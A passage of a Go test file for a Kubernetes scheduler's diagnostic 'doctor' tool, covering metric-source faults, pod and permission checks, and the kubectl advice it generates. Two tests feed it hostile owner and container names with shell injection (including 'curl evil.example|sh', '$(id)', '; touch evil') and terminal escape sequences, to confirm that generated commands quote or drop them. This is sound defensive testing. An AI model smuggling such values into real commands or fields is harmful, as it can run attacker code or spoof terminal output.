package doctor

import (
	"context"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"math"
	"net"
	"net/http"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/prometheus/common/model"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	componentbaseconfig "k8s.io/component-base/config"
	schedulerconfig "k8s.io/kubernetes/pkg/scheduler/apis/config"
	testingclock "k8s.io/utils/clock/testing"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/yaml"

	"github.com/plimsoll-scheduler/plimsoll/apis/config"
	"github.com/plimsoll-scheduler/plimsoll/pkg/estimate/reading"
	"github.com/plimsoll-scheduler/plimsoll/pkg/estimate/reading/readingtest"
	"github.com/plimsoll-scheduler/plimsoll/pkg/inspect/live"
	"github.com/plimsoll-scheduler/plimsoll/pkg/load"
	"github.com/plimsoll-scheduler/plimsoll/pkg/podusage"
	"github.com/plimsoll-scheduler/plimsoll/pkg/source/httpclient"
	"github.com/plimsoll-scheduler/plimsoll/pkg/source/prometheus/diagnosis"
	"github.com/plimsoll-scheduler/plimsoll/pkg/source/prometheus/promql"
)

// sourceAt returns the facts of a Prometheus with an address.
func sourceAt(address string, pods ...*corev1.Pod) *sourceFacts {
	spec := config.LoadSpec{MetricProvider: config.MetricProviderSpec{
		Type: config.Prometheus, Address: address, Dialect: config.DialectAuto, NodeLabels: []string{"node"},
		TokenFile: "/etc/plimsoll/token/token", CAFile: "/etc/plimsoll/ca/ca.crt", Timeout: metav1.Duration{Duration: 10 * time.Second},
	}}
	spec.Window.Duration, spec.RefreshInterval.Duration, spec.MaxAge.Duration, spec.DriftTolerance = 5*time.Minute, 30*time.Second, 5*time.Minute, 10
	return &sourceFacts{
		facts: &facts{
			now: time.Unix(1_700_000_000, 0),
			configuration: &live.Configuration{
				Origin:  "ConfigMap plimsoll-system/plimsoll",
				Decoded: &schedulerconfig.KubeSchedulerConfiguration{},
				Workload: &live.Workload{
					Kind:      "Deployment",
					Namespace: "plimsoll-system",
					Name:      "plimsoll",
					Container: "kube-scheduler",
					Pods:      []string{"plimsoll-1"},
				},
			},
			objects: &objects{
				pods: pods,
				services: []*corev1.Service{
					service("monitoring", "prometheus-operated", 9090), service("monitoring", "thanos-query", 10902), service("shop", "web", 80),
				},
			},
		},
		Source:      live.Source{Label: "Prometheus", Spec: spec, Address: address},
		windows:     []time.Duration{5 * time.Minute},
		diagnosis:   &diagnosis.Diagnosis{},
		examination: &diagnosis.Examination{},
	}
}

// checksOf returns the checks of a group that the source's table has.
func checksOf(s *sourceFacts, group string) []Check {
	r := &Report{}
	runAll(r, sourceChecks(), s, "")
	return slices.DeleteFunc(r.Checks, func(c Check) bool { return c.Group != group })
}

// find returns the first check of the ID that is not OK, or else one that is; nil if there is none.
func find(checks []Check, id string) *Check {
	var found *Check
	for i := range checks {
		if c := &checks[i]; c.ID == id && (found == nil || found.Status == OK) {
			found = c
		}
	}
	return found
}

func service(namespace, name string, port int32) *corev1.Service {
	return &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name},
		Spec:       corev1.ServiceSpec{Selector: map[string]string{"app": name}, Ports: []corev1.ServicePort{{Name: "web", Port: port}}},
	}
}

// schedulerPod returns the scheduler's pod, with the volumes that the chart mounts.
func schedulerPod() *corev1.Pod {
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: "plimsoll-system", Name: "plimsoll-1"},
		Spec: corev1.PodSpec{
			Containers: []corev1.Container{{Name: "kube-scheduler", VolumeMounts: []corev1.VolumeMount{
				{Name: "token", MountPath: "/etc/plimsoll/token"}, {Name: "ca", MountPath: "/etc/plimsoll/ca/"},
			}}},
			Volumes: []corev1.Volume{
				{Name: "token", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "prometheus-token"}}},
				{
					Name: "ca",
					VolumeSource: corev1.VolumeSource{
						ConfigMap: &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "prometheus-ca"}},
					},
				},
			},
		},
	}
}

func TestFault(t *testing.T) {
	const there = "https://prometheus-operated.monitoring.svc:9090/prefix"
	unknown := x509.UnknownAuthorityError{Cert: &x509.Certificate{Issuer: pkix.Name{CommonName: "house-ca"}}}
	status := func(code int, body string) error { return &httpclient.StatusError{Code: code, Body: []byte(body)} }
	for _, tt := range []struct {
		name, address string
		route         live.Route
		err           error
		pods          []*corev1.Pod
		stage         string
		// wants are in the first advice with its YAML and command.
		wants []string
	}{
		{"a Service of another name", "http://prometheus.monitoring.svc:9090/x", live.Direct, &net.DNSError{Err: "no such host", Name: "prometheus.monitoring.svc"}, nil,
			stageResolves, []string{"There is no Service monitoring/prometheus.", "address: http://prometheus-operated.monitoring.svc:9090/x"}},
		{"a Service that does not exist, by the proxy", "http://prometheus.monitoring.svc:9090", live.ServiceProxy, status(404, `{"kind":"Status"}`), nil,
			stageResolves, []string{"address: http://prometheus-operated.monitoring.svc:9090"}},
		{"no Service is similar", "http://graphite.nowhere.svc:80", live.Direct, &net.DNSError{Err: "no such host"}, nil, stageResolves, []string{"kubectl get services -A"}},
		{"another port", "http://prometheus-operated.monitoring.svc:80", live.Direct, syscall.ECONNREFUSED, nil,
			stageConnects, []string{"has no port 80", "address: http://prometheus-operated.monitoring.svc:9090"}},
		{"no pod behind the Service", "http://prometheus-operated.monitoring.svc:9090", live.Direct, syscall.ECONNREFUSED, nil,
			stageConnects, []string{"No ready pod", "kubectl -n monitoring describe pods -l app=prometheus-operated"}},
		{"a server that is no Service", "http://10.0.0.9:9090/p", live.Direct, syscall.ECONNREFUSED, nil, stageConnects, []string{"Start the server at 10.0.0.9:9090", "curl -sS 'http://10.0.0.9:9090/p/api/v1/query?query=1'"}},
		{"an unknown authority, with a ConfigMap", there, live.Direct, fmt.Errorf("x: %w", unknown), []*corev1.Pod{schedulerPod()},
			stageTLS, []string{"house-ca signed the certificate", "-connect prometheus-operated.monitoring.svc:9090",
				"kubectl -n plimsoll-system create configmap prometheus-ca --from-file=ca.crt=ca.crt"}},
		{"OpenShift's authority", there, live.Direct, x509.UnknownAuthorityError{Cert: &x509.Certificate{Issuer: pkix.Name{CommonName: "openshift-service-serving-signer@1"}}}, nil,
			stageTLS, []string{"caFile: /var/run/secrets/kubernetes.io/serviceaccount/service-ca.crt"}},
		{"another name in the certificate", there, live.Direct, x509.HostnameError{Host: "x", Certificate: &x509.Certificate{DNSNames: []string{"prom.example.org"}}}, nil,
			stageTLS, []string{"address: https://prom.example.org:9090/prefix"}},
		{"an expired certificate", there, live.Direct, x509.CertificateInvalidError{Reason: x509.Expired, Cert: &x509.Certificate{}}, nil, stageTLS, []string{"renew the certificate"}},
		{"plain HTTP where HTTPS is spoken", "http://prometheus-operated.monitoring.svc:9090", live.Direct, status(400, "Client sent an HTTP request to an HTTPS server."), nil,
			stageTLS, []string{"address: https://prometheus-operated.monitoring.svc:9090"}},
		{"a token by the proxy", there, live.ServiceProxy, status(401, "no"), nil, stageAuthorized, []string{"kubectl -n plimsoll-system exec deploy/plimsoll -c kube-scheduler -- kubectl-plimsoll doctor"}},
		{"the proxy is forbidden", there, live.ServiceProxy, status(403, `{"kind":"Status"}`), nil, stageAuthorized, []string{"You lack permission for the API server's proxy"}},
		{"no token, and an address that looks like a proxy", "http://sql-proxy.example:9090", live.Replaced, status(401, "no"), nil, stageAuthorized, []string{"No token is sent"}},
		{"no token", there, live.Direct, status(401, "no"), nil, stageAuthorized, []string{"tokenFile: /etc/plimsoll/token/token"}},
		{"a file of the pod", there, live.Direct, os.ErrNotExist, nil, stageAuthorized, []string{"exec deploy/plimsoll"}},
		{"a redirect to a server that is down", "http://10.0.0.9:9090", live.Direct, &url.Error{Op: "Get", URL: "http://10.0.0.8:9/x", Err: syscall.ECONNREFUSED}, nil,
			stageAnswers, []string{"10.0.0.9:9090 redirects to 10.0.0.8:9", "curl -sSI http://10.0.0.9:9090"}},
		{"another status", "http://10.0.0.9:9090", live.Direct, status(http.StatusBadGateway, ""), nil, stageAnswers, []string{"10.0.0.9:9090"}},
		{"an error of another kind, such as of a source that is new", there, live.Direct, fmt.Errorf("quota of the account is used up"), nil, stageAnswers, []string{"Do what the message says"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := sourceAt(tt.address, tt.pods...)
			s.Route = tt.route
			s.Err = tt.err
			s.diagnosis = nil
			checks := checksOf(s, "source")
			last := checks[len(checks)-1]
			if last.ID != tt.stage || last.Status == OK {
				t.Fatalf("%s is %s, want a fault of %s", last.ID, last.Status, tt.stage)
			}
			text := ""
			for _, a := range last.Advice {
				text += a.Text + "\n" + a.Command + "\n" + a.YAML + "\n"
			}
			for _, want := range tt.wants {
				if !strings.Contains(text, want) {
					t.Errorf("the advice is\n%s\nwant %q", text, want)
				}
			}
		})
	}
}

// TestFault_HostedService expects the message, which knows of two keys, instead of advice about the token of a Prometheus.
func TestFault_HostedService(t *testing.T) {
	for code, stage := range map[int]string{
		http.StatusForbidden: stageAuthorized, http.StatusUnauthorized: stageAuthorized, http.StatusTooManyRequests: stageAnswers,
	} {
		s := sourceAt("https://api.datadoghq.eu")
		s.Spec.MetricProvider.Type = config.Datadog
		s.diagnosis = nil
		s.Err = &httpclient.StatusError{Code: code, Hint: "the application key lacks a scope"}
		checks := checksOf(s, "source")
		last := checks[len(checks)-1]
		if last.ID != stage || !strings.Contains(last.Message, "the application key lacks a scope") ||
			len(last.Advice) != 1 || !strings.Contains(last.Advice[0].Text, "Do what the message says") {
			t.Errorf("status %d: the check is %+v, want a fault of %s", code, last, stage)
		}
	}
}

func TestTableChecks(t *testing.T) {
	now := time.Unix(1_700_000_000, 0)
	measured := func(mean, stdDev float64, age time.Duration) load.Measurement {
		return load.Measurement{Stat: load.Stat{Mean: mean, StdDev: stdDev, Known: true}, Window: time.Minute, End: now.Add(-age)}
	}
	both := func(m load.Measurement) load.NodeLoad { return load.NodeLoad{m, m} }
	for _, tt := range []struct {
		name  string
		loads map[string]load.NodeLoad
		id    string
		want  Status
		text  string
	}{
		{"all is fine", map[string]load.NodeLoad{"a": both(measured(0.5, 0.1, time.Second)), "b": both(measured(0.4, 0.1, 9*time.Second))}, "time.age", OK, "1s to 9s old"},
		{"no load", map[string]load.NodeLoad{"a": both(measured(0.5, 0.1, time.Second)), "b": {}}, "nodes.measured", Warning, "nodes without load: 1 of 2 (b)"},
		{"no load anywhere", map[string]load.NodeLoad{"b": {}}, "nodes.measured", Error, "nodes without load: 1 of 1 (b)"},
		{"old load", map[string]load.NodeLoad{"a": both(measured(0.5, 0.1, 6*time.Minute))}, "time.age", Error, "a cpu, a memory"},
		{"load that is old soon", map[string]load.NodeLoad{"a": both(measured(0.5, 0.1, 3*time.Minute))}, "time.age", Warning, "a expires soon"},
		{"zero", map[string]load.NodeLoad{"a": {measured(0, 0.1, 0), measured(0.5, 0.1, 0)}}, "values.zero", Warning, "1 value is at exactly 0, which no running node is: a cpu"},
		{"a full node", map[string]load.NodeLoad{"a": {measured(1, 0.1, 0), measured(0.5, 0.1, 0)}}, "values.capacity", Warning, "a cpu"},
		{"no deviation of any node", map[string]load.NodeLoad{"a": both(measured(0.5, 0, 0))}, "values.deviation", Warning, "a cpu, a memory"},
		{"a node that is steady", map[string]load.NodeLoad{"a": both(measured(0.5, 0, 0)), "b": both(measured(0.5, 0.1, 0))}, "values.deviation", OK, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := sourceAt("http://10.0.0.9:2020")
			s.diagnosis, s.examination, s.usesDeviation = nil, nil, true // as of any source that tells nothing more
			clock := testingclock.NewFakePassiveClock(now)
			loads := readingtest.New(clock)
			loads.MeasureAll(tt.loads, nil)
			for node := range tt.loads {
				s.objects.nodes = append(s.objects.nodes, &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: node}})
			}
			reader, err := loads.Open(t.Context(), reading.ForLoad(s.Spec, podusage.ByRequests{}))
			if err != nil {
				t.Fatal(err)
			}
			s.Readers = []*reading.Reader{reader}
			s.addReaders()
			r := &Report{}
			runAll(r, sourceChecks(), s, "")
			got := find(r.Checks, tt.id)
			for _, c := range r.Checks {
				if (c.Status == OK) != (len(c.Advice) == 0) {
					t.Errorf("%s is %s, with advice %+v", c.ID, c.Status, c.Advice)
				}
			}
			if got == nil || got.Status != tt.want || !strings.Contains(got.Message, tt.text) {
				t.Errorf("%s is %+v, want %s with %q", tt.id, got, tt.want, tt.text)
			}
		})
	}
}

func TestWaitingChecks(t *testing.T) {
	now := time.Unix(1_700_000_000, 0)
	pod := func(name, scheduler string, age time.Duration, change func(*corev1.Pod)) *corev1.Pod {
		p := &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: name, CreationTimestamp: metav1.NewTime(now.Add(-age))},
			Spec:       corev1.PodSpec{SchedulerName: scheduler},
		}
		if change != nil {
			change(p)
		}
		return p
	}
	refused := func(p *corev1.Pod) {
		p.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionFalse}}
	}
	owned := func(kind, owner string) func(*corev1.Pod) {
		return func(p *corev1.Pod) {
			p.OwnerReferences = []metav1.OwnerReference{{Kind: kind, Name: owner, Controller: ptr.To(true)}}
		}
	}
	for _, tt := range []struct {
		name    string
		pods    []*corev1.Pod
		leading bool
		want    Status
		wants   []string
	}{
		{"a scheduler has said why", []*corev1.Pod{pod("a", "other", time.Hour, refused)}, true, OK, []string{"1 pod waits for other reasons"}},
		{"a pod that has just been created", []*corev1.Pod{pod("a", "other", time.Second, nil)}, true, OK, nil},
		{"a pod on a node", []*corev1.Pod{pod("a", "other", time.Hour, func(p *corev1.Pod) { p.Spec.NodeName = "n" })}, true, OK, nil},
		{"a pod with a gate", []*corev1.Pod{pod("a", "other", time.Hour, func(p *corev1.Pod) { p.Spec.SchedulingGates = []corev1.PodSchedulingGate{{Name: "g"}} })}, true, OK, nil},
		{"a misspelled name", []*corev1.Pod{pod("a", "plimsol", time.Hour, nil)}, true, Error, []string{`did you mean "plimsoll"?`, `"schedulerName":"plimsoll"`, "get pod a"}},
		{"a name that is like no other", []*corev1.Pod{pod("a", "zzz", time.Hour, nil)}, true, Error, []string{`"schedulerName":"default-scheduler"`}},
		{"pods of a StatefulSet", []*corev1.Pod{pod("a-0", "plimsol", time.Hour, owned("StatefulSet", "a")), pod("a-1", "plimsol", time.Hour, owned("StatefulSet", "a"))},
			true, Error, []string{"2 pods wait", "kubectl -n shop patch statefulset a --type=merge"}},
		{"a Job", []*corev1.Pod{pod("a", "plimsol", time.Hour, owned("Job", "j"))}, true, Error, []string{"create Job shop/j again"}},
		{"a CronJob's pods", []*corev1.Pod{pod("a", "plimsol", time.Hour, owned("CronJob", "c"))}, true, Error,
			[]string{`kubectl -n shop patch cronjob c --type=merge -p '{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"schedulerName":"plimsoll"}}}}}}'`}},
		{"our scheduler is down", []*corev1.Pod{pod("a", "plimsoll", time.Hour, nil)}, false, Error, []string{"its scheduler is down", "describe"}},
		{"our scheduler is slow", []*corev1.Pod{pod("a", "plimsoll", time.Hour, nil)}, true, Warning, []string{"a profile has this name"}},
		{"our scheduler works on it", []*corev1.Pod{pod("a", "plimsoll", time.Hour, nil), pod("b", "plimsoll", time.Hour, refused)}, true, OK, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			o := objectsOf([]runtime.Object{&appsv1.StatefulSet{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "a"}}})
			o.pods = tt.pods
			f := sourceAt("").facts
			f.objects, f.configuration.Decoded.Profiles = o, []schedulerconfig.KubeSchedulerProfile{{SchedulerName: "plimsoll"}}
			if tt.leading {
				f.configuration.Workload.Name = "" // nothing is known but that it runs
			}
			checks := f.checkWaiting()
			if len(checks) != 1 || checks[0].Status != tt.want {
				t.Fatalf("got %+v, want one %s", checks, tt.want)
			}
			text := fmt.Sprint(checks[0])
			for _, want := range tt.wants {
				if !strings.Contains(text, want) {
					t.Errorf("got %s, want %q", text, want)
				}
			}
		})
	}
}

func TestMetricChecks(t *testing.T) {
	metrics, err := live.ParseMetrics(strings.NewReader(`# TYPE plimsoll_load_nodes gauge
plimsoll_load_nodes{source="Prometheus",resource="cpu",state="Fresh"} 3
plimsoll_load_nodes{source="Prometheus",resource="cpu",state="Absent"} 0
plimsoll_load_nodes{source="Prometheus",resource="memory",state="Fresh"} 0
plimsoll_load_nodes{source="Prometheus",resource="memory",state="Expired"} 3
# TYPE plimsoll_refresh_total counter
plimsoll_refresh_total{source="Prometheus",result="Success"} 80
plimsoll_refresh_total{source="Prometheus",result="Error"} 20
# TYPE plimsoll_decisions_total counter
plimsoll_decisions_total{plugin="TargetLoadPacking"} 100
plimsoll_decisions_total{plugin="LoadThreshold"} 100
# TYPE plimsoll_fallback_total counter
plimsoll_fallback_total{plugin="TargetLoadPacking",reason="StepAside"} 11
plimsoll_fallback_total{plugin="LoadThreshold",reason="Absent"} 10
`))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	f := sourceAt("").facts
	f.configuration.Workload, f.metrics, f.metricsFrom = nil, metrics, "a test"
	for _, c := range reportOn(f).Checks {
		if c.Group == "scheduler" {
			got = append(got, fmt.Sprintf("%s %s: %s", c.Status, c.ID, c.Message))
		}
	}
	want := []string{
		"error scheduler.load: the scheduler's metrics, from a test, say Prometheus: memory fresh on 0, expired on 3, absent on 0 nodes",
		"ok scheduler.load: Prometheus: cpu fresh on 3, expired on 0, absent on 0 nodes",
		"warning scheduler.refreshes: Prometheus: 20 of 100 refreshes failed since the scheduler started",
		"ok scheduler.fallbacks: LoadThreshold decided 10 of 100 placements without load",
		"warning scheduler.fallbacks: TargetLoadPacking decided 11 of 100 placements without load since the scheduler started: StepAside 11",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	f.metrics = model.Vector{{Metric: model.Metric{"__name__": "up"}}}
	if got := f.checkMetrics(); len(got) != 1 || got[0].Status != Warning {
		t.Errorf("without metrics of Plimsoll: %+v", got)
	}
}

func TestClaimsOf(t *testing.T) {
	// {"sub":"system:serviceaccount:a:b","exp":1700000000}
	c := claimsOf("x.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6YTpiIiwiZXhwIjoxNzAwMDAwMDAwfQ.y\n")
	if c.Subject != "system:serviceaccount:a:b" || c.Expiry != 1700000000 {
		t.Errorf("got %+v", c)
	}
	for _, token := range []string{"", "sha256~opaque", "a.b.c", "a.!.c"} {
		if c := claimsOf(token); c != (claims{}) {
			t.Errorf("%q has claims %+v", token, c)
		}
	}
}

// TestNeededPermissions compares with the roles that the chart installs: a right that is checked must be granted there,
// and the other way round.
func TestNeededPermissions(t *testing.T) {
	text, err := os.ReadFile("../../../manifests/second-scheduler.yaml")
	if err != nil {
		t.Fatal(err)
	}
	granted := map[string]bool{}
	for _, document := range strings.Split(string(text), "\n---\n") {
		var role rbacv1.ClusterRole
		if err := yaml.Unmarshal([]byte(document), &role); err != nil || role.Kind != "ClusterRole" && role.Kind != "Role" {
			continue
		}
		for _, rule := range role.Rules {
			for _, group := range rule.APIGroups {
				for _, resource := range rule.Resources {
					for _, verb := range rule.Verbs {
						granted[verb+" "+live.ResourceName(group, resource)] = true
					}
				}
			}
		}
	}
	if len(granted) == 0 {
		t.Fatal("no role was found")
	}
	cfg := &schedulerconfig.KubeSchedulerConfiguration{Profiles: []schedulerconfig.KubeSchedulerProfile{
		{
			Plugins: &schedulerconfig.Plugins{
				Score: schedulerconfig.PluginSet{Enabled: []schedulerconfig.Plugin{{Name: config.TargetLoadPacking}}},
			},
			PluginConfig: []schedulerconfig.PluginConfig{
				{
					Name: config.TargetLoadPacking,
					Args: &config.TargetLoadPackingArgs{
						LoadSpec: config.LoadSpec{MetricProvider: config.MetricProviderSpec{Type: config.KubernetesMetricsServer}},
					},
				},
			},
		},
	}}
	needed := map[string]bool{}
	election := componentbaseconfig.LeaderElectionConfiguration{
		LeaderElect:       true,
		ResourceName:      "plimsoll",
		ResourceNamespace: "plimsoll-system",
	}
	cfg.LeaderElection = election
	f := &facts{configuration: &live.Configuration{Decoded: cfg}, server: live.Server{GitVersion: "v1.37.1"}}
	f.sources = []*sourceFacts{{Source: live.Source{Route: live.Aggregation}}}
	for _, r := range f.neededPermissions() {
		if r.Purpose == "" {
			t.Errorf("%+v has no purpose", r)
		}
		for _, verb := range r.Verbs {
			right := verb + " " + live.ResourceName(r.Group, r.Resource)
			needed[right] = true
			// A role of kube-system has that one.
			if !granted[right] && r.Resource != "configmaps" {
				t.Errorf("%s is checked, and the chart does not grant it", right)
			}
		}
	}
	for right := range granted {
		// Old names, what only old clients or other API servers ask, and what only preparing a binding takes.
		if strings.Contains(right, ".extensions") || strings.HasSuffix(right, " bindings") || strings.Contains(right, "resourceclaims") ||
			strings.HasSuffix(right, "pods/finalizers") {
			continue
		}
		if !needed[right] {
			t.Errorf("%s is granted by the chart, and not checked", right)
		}
	}
	f.server.GitVersion = "v1.36.4"
	for _, r := range f.neededPermissions() {
		if r.Resource == "devicetaintrules" {
			t.Error("a scheduler of Kubernetes 1.36 does not read devicetaintrules, but the right is checked")
		}
	}
}

// TestGrants expects one role for the cluster and one for each namespace, whatever the number of permissions.
func TestGrants(t *testing.T) {
	const user = "system:serviceaccount:ns:account"
	to := live.Subject(user)
	permissions := []live.Permission{
		{Resource: "nodes", Verbs: []string{"get", "list"}},
		{Group: "coordination.k8s.io", Resource: "leases", Verbs: []string{"get"}, Namespace: "ns", Name: "lease"},
		{Resource: "services", Verbs: []string{"get", "list"}},
		{Resource: "pods/status", Verbs: []string{"patch"}},
	}
	got := live.Grants(permissions, to)
	want := `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: plimsoll-may-1
rules:
- apiGroups:
  - ""
  resources:
  - nodes
  - services
  verbs:
  - get
  - list
- apiGroups:
  - ""
  resources:
  - pods/status
  verbs:
  - patch
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: plimsoll-may-1
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: plimsoll-may-1
subjects:
- kind: ServiceAccount
  name: account
  namespace: ns
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: plimsoll-may-2
  namespace: ns
rules:
- apiGroups:
  - coordination.k8s.io
  resourceNames:
  - lease
  resources:
  - leases
  verbs:
  - get
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata:
  name: plimsoll-may-2
  namespace: ns
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: Role
  name: plimsoll-may-2
subjects:
- kind: ServiceAccount
  name: account
  namespace: ns
`
	names := map[string]string{}
	numbered := regexp.MustCompile("plimsoll-may-[0-9a-f]{8}").ReplaceAllStringFunc(got, func(name string) string {
		if names[name] == "" {
			names[name] = fmt.Sprintf("plimsoll-may-%d", len(names)+1)
		}
		return names[name]
	})
	if diff := cmp.Diff(want, numbered); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	for name := range names {
		if other := live.Grants(permissions[2:], to); strings.Contains(other, name) {
			t.Errorf("other permissions have a role of the same name, and would replace it:\n%s", other)
		}
		if other := live.Grants(permissions, live.Subject("jane")); strings.Contains(other, name) {
			t.Errorf("another user has a binding of the same name, and would replace it:\n%s", other)
		}
	}

	checks := lackingChecks(fail, user, permissions)
	for _, c := range checks {
		if len(checks) != len(permissions) || len(c.Advice) != 1 || c.Advice[0] != checks[0].Advice[0] {
			t.Errorf("the advice is not one for all: %+v", checks)
		}
	}
}

// TestCheckReached_UnknownStage expects no stage to be called fine where it is not known how far a request came, such as with a
// source that has a default address.
func TestCheckReached_UnknownStage(t *testing.T) {
	s := sourceAt("")
	s.Spec.MetricProvider.Type, s.Label, s.diagnosis = "Datadog", "Datadog", nil
	s.Err = &net.DNSError{Err: "no such host", Name: "api.example.org"}
	if checks := checksOf(s, "source"); len(checks) != 1 || checks[0].Status != Error || len(checks[0].Advice) == 0 {
		t.Errorf("got %+v, want the fault alone", checks)
	}
}

// TestAdviseWaiting_HostileOwner expects nothing of what a pod's author wrote as its owner in what is said, unless the owner exists
// or can exist.
func TestAdviseWaiting_HostileOwner(t *testing.T) {
	set := &appsv1.ReplicaSet{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "web-1"}}
	of := func(d string) *appsv1.ReplicaSet {
		set := &appsv1.ReplicaSet{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "of-" + d[:1]}}
		set.OwnerReferences = []metav1.OwnerReference{{Kind: "Deployment", Name: d, Controller: ptr.To(true)}}
		return set
	}
	all := objectsOf([]runtime.Object{set, of("deployed"), of("x; id")})
	for _, tt := range []struct{ kind, name, command string }{
		{"Deployment", "evil; curl evil.example|sh #\x1b[2J", ""},
		{"Foo; touch evil #\n\x1b[31mRIGHTS ok", "x", ""},
		{"Deployment", "evil", ""}, // pods are made by ReplicaSets
		{"ReplicaSet", "evil", ""},
		{"ReplicaSet", "of-x", ""},
		{"StatefulSet", "evil", ""},
		{"DaemonSet", "evil$(id)", ""},
		{"DaemonSet", "--all", ""},
		{"ReplicaSet", "web-1", "patch replicaset web-1"},
		{"ReplicaSet", "of-d", "patch deployment deployed"},
		{"DaemonSet", "agent", "patch daemonset agent"},
	} {
		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "a"}}
		pod.OwnerReferences = []metav1.OwnerReference{{Kind: tt.kind, Name: tt.name, Controller: ptr.To(true)}}
		advice := all.adviseWaiting([]*corev1.Pod{pod}, "plimsol", []string{"plimsoll"})[0]
		if tt.command == "" && (advice.Command != "" || strings.Contains(advice.Text, "evil")) ||
			!strings.Contains(advice.Command, tt.command) ||
			advice.Text == "" {
			t.Errorf("owner %s %q: %+v", tt.kind, tt.name, advice)
		}
	}
	r := &Report{}
	r.add(Check{ID: "a.b", Message: "x\x1b[2Jy\u202ez", Advice: []Advice{{Text: "\x1b", Command: "\x1b", YAML: "a: \x1b\nb: 1\n"}}})
	if c := r.Checks[0]; strings.ContainsAny(fmt.Sprint(c), "\x1b\u202e") {
		t.Errorf("%q steers a terminal", c)
	}
}

// TestCommands_Quoted expects every name that a configuration or an object brings into a command to be one word of the shell.
func TestCommands_Quoted(t *testing.T) {
	const evil = "x; touch evil"
	s := sourceAt("http://prometheus-operated.monitoring.svc:9090", schedulerPod())
	w := s.configuration.Workload
	w.Container = evil
	s.objects.pods[0].Spec.Volumes[0].Secret.SecretName, s.objects.pods[0].Spec.Volumes[1].ConfigMap.Name = evil, evil
	s.objects.services[0].Spec.Selector = map[string]string{"app": evil}
	advice := s.adviseAuthority(&x509.Certificate{})
	advice = append(advice, s.adviseAddress()...)
	advice = append(advice, Advice{Command: w.DoctorCommand()}, Advice{Command: s.queryCommand(evil)},
		Advice{Command: live.LogsCommand("a", evil)})
	quoted := 0
	for _, a := range advice {
		if strings.Contains(strings.ReplaceAll(a.Command, "'"+evil+"'", ""), evil) && !strings.Contains(a.Command, "="+evil+"'") {
			t.Errorf("a name is not quoted in %s", a.Command)
		}
		quoted += strings.Count(a.Command, evil)
	}
	if quoted < 4 {
		t.Errorf("the name is in %d commands, want 4 or more: %+v", quoted, advice)
	}
}

// TestCheckCapacity_Infinite expects a query that divides by zero to be told from one in percent.
func TestCheckCapacity_Infinite(t *testing.T) {
	s := sourceAt("http://10.0.0.9:9090")
	s.diagnosis.Queries = []diagnosis.QueryDiagnosis{{Query: promql.Query{PromQL: "a / 0"}, Highest: math.Inf(1), HighestNode: "n1"}}
	c := s.checkCapacity()[0]
	if c.Status != Error || strings.Contains(c.Message, "Inf") || c.Advice[0].YAML != "" ||
		!strings.Contains(c.Advice[0].Command, "a / 0") {
		t.Errorf("got %+v", c)
	}
}

// TestCheckUnnamed expects one check for all nodes with the same advice.
func TestCheckUnnamed(t *testing.T) {
	s := sourceAt("http://10.0.0.9:9090")
	s.diagnosis.NodeCount = 11
	s.examination.Sampling = map[string]diagnosis.Sampling{"healthy": {Interval: time.Second}}
	for i := range 10 {
		s.diagnosis.NodesWithoutSeries = append(s.diagnosis.NodesWithoutSeries, fmt.Sprintf("w%d", i))
	}
	s.examination.Unnamed = s.diagnosis.NodesWithoutSeries
	for _, tt := range []struct {
		strays []string
		want   string
	}{
		{[]string{`up{instance="a"}`}, `no label names these nodes without load: w0, w1, w2, w3, w4, …; these series name no node: up{instance="a"}`},
		{nil, "no series has a label that names a node without load: w0, w1, w2, w3, w4, …"},
	} {
		s.examination.Strays = tt.strays
		checks := checksOf(s, "nodes")
		if c := find(checks, "nodes.nearest"); c == nil || c.Message != tt.want || c.Status != Warning {
			t.Errorf("got %+v, want %s", c, tt.want)
		}
		if c := find(checks, "nodes.measured"); strings.Contains(fmt.Sprint(c.Advice), "too few samples") {
			t.Errorf("samples of a node that has load count for those without: %+v", c)
		}
	}
}

// TestCheckReached_HostedSource expects sources without an address of the cluster's to be checked as far as any source can be.
func TestCheckReached_HostedSource(t *testing.T) {
	for _, kind := range []config.MetricProviderType{config.SignalFx, config.Datadog} {
		for _, err := range []error{&httpclient.StatusError{Code: http.StatusForbidden}, &net.DNSError{Err: "no such host"}, syscall.ECONNREFUSED, context.DeadlineExceeded} {
			s := sourceAt("")
			s.Spec.MetricProvider.Type, s.Label, s.diagnosis, s.Err = kind, string(kind), nil, err
